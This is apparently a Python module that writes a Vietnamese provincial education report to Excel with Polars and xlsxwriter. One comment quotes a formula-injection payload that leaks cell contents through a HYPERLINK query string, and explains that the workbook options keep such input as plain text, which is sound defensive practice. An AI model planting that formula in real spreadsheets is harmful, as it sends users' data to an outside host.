"""The Excel report for the province: a cover sheet, then one sheet per section, written by
Polars through xlsxwriter (formats, frozen header, filters, colour bands)."""

from __future__ import annotations

from pathlib import Path

import polars as pl
import xlsxwriter

from pipelines.reference.labels import Labels
from pipelines.reports.content import SECTIONS, ReportContext

GREEN, AMBER, RED = "#C6EFCE", "#FFEB9C", "#FFC7CE"
HEADER = {"bold": True, "text_wrap": True, "valign": "top", "bg_color": "#DDEBF7", "border": 1}
TITLE_ROW = 2  # the table starts below a title row and a blank row


def _formats(labels: Labels, df: pl.DataFrame) -> tuple[dict, dict]:
    """Number formats by column type and colour bands for levels, bands and statuses."""
    column_formats: dict[str, str] = {}
    for name, dtype in df.schema.items():
        if dtype == pl.Date:
            column_formats[name] = "dd/mm/yyyy"
        elif dtype.is_float():
            column_formats[name] = "0.0"
    bands: dict[str, list[dict]] = {}

    def equals(column: str, colours: dict[object, str]) -> None:
        label = labels.column(column)
        if label in df.columns:
            bands[label] = [
                {
                    "type": "cell",
                    "criteria": "==",
                    "value": f'"{v}"' if isinstance(v, str) else v,
                    "format": {"bg_color": c},
                }
                for v, c in colours.items()
            ]

    equals("verified_level", {3: GREEN, 2: AMBER, 1: RED})
    equals(
        "band",
        {
            labels.values["band"][k]: c
            for k, c in (("green", GREEN), ("amber", AMBER), ("red", RED))
        },
    )
    equals(
        "status",
        {
            labels.values["status"][k]: c
            for k, c in (("on_time", GREEN), ("late", AMBER), ("missing", RED))
        },
    )
    equals("meets_computer_ratio", {"Có": GREEN, "Không": RED})
    score = labels.column("completeness_score")
    if score in df.columns:
        bands[score] = [
            {"type": "3_color_scale", "min_color": RED, "mid_color": AMBER, "max_color": GREEN}
        ]
    return column_formats, bands


# What came from input is written as it is, never interpreted: a school name such as
# `=HYPERLINK("http://…?leak="&A1)`, `+2+3` or `@SUM(…)` stays text, not a live formula
# (xlsxwriter turns strings starting with `=` into formulas, and URLs into links, by default).
SAFE_WORKBOOK_OPTIONS = {
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}


def _cover(workbook: xlsxwriter.Workbook, ctx: ReportContext, labels: Labels) -> None:
    sheet = workbook.add_worksheet("Bìa")
    title = workbook.add_format({"bold": True, "font_size": 16})
    bold = workbook.add_format({"bold": True})
    wrap = workbook.add_format({"text_wrap": True, "valign": "top"})
    sheet.set_column(0, 0, 28)
    sheet.set_column(1, 1, 90)
    sheet.write(0, 0, "BÁO CÁO CHUYỂN ĐỔI SỐ VÀ CHẤT LƯỢNG DỮ LIỆU", title)
    sheet.write(2, 0, "Đơn vị", bold)
    sheet.write(2, 1, ctx.unit)
    sheet.write(3, 0, "Năm học", bold)
    sheet.write(3, 1, ctx.school_year)
    sheet.write(4, 0, "Ngày lập", bold)
    sheet.write(4, 1, ctx.made_on.strftime("%d/%m/%Y"))
    sheet.write(5, 0, "Căn cứ", bold)
    sheet.write(5, 1, "Quyết định 4725/QĐ-BGDĐT; báo cáo thống kê và dữ liệu CSDL ngành")
    sheet.write(7, 0, "Trang tính", bold)
    sheet.write(7, 1, "Nội dung", bold)
    for n, s in enumerate((s.for_report(ctx) for s in SECTIONS), start=8):
        sheet.write_url(n, 0, f"internal:'{s.sheet}'!A1", string=s.sheet)
        sheet.write(n, 1, f"{s.title}. {s.about}", wrap)
    sheet.activate()


def table_sheet(
    workbook: xlsxwriter.Workbook, name: str, title: str, df: pl.DataFrame, labels: Labels
) -> int:
    """One sheet: a bold title, then `df` in Vietnamese (headers, codes as words) as an Excel
    table with number formats, filters, a frozen header and colour bands. Returns its rows."""
    df = labels.translate(df)
    column_formats, bands = _formats(labels, df)
    sheet = workbook.add_worksheet(name)
    sheet.write(0, 0, title, workbook.add_format({"bold": True, "font_size": 13}))
    df.write_excel(
        workbook=workbook,
        worksheet=name,
        position=(TITLE_ROW, 0),
        table_style="Table Style Light 9",
        column_formats=column_formats,
        conditional_formats=bands,
        header_format=HEADER,
        autofilter=True,
        autofit=True,
        freeze_panes=(TITLE_ROW + 1, 2),
        float_precision=1,
    )
    return df.height


def write_excel_report(
    path: Path, frames: dict[str, pl.DataFrame], ctx: ReportContext, labels: Labels
) -> dict[str, int]:
    """Write the workbook beside `path`, then rename it over: a reader never sees half."""
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(f".{path.name}.tmp")
    rows: dict[str, int] = {}
    with xlsxwriter.Workbook(tmp, SAFE_WORKBOOK_OPTIONS) as workbook:
        _cover(workbook, ctx, labels)
        for section in (s.for_report(ctx) for s in SECTIONS):
            title = f"{section.title} — năm học {ctx.school_year}"
            rows[section.sheet] = table_sheet(
                workbook, section.sheet, title, frames[section.key], labels
            )
    tmp.replace(path)
    return rows
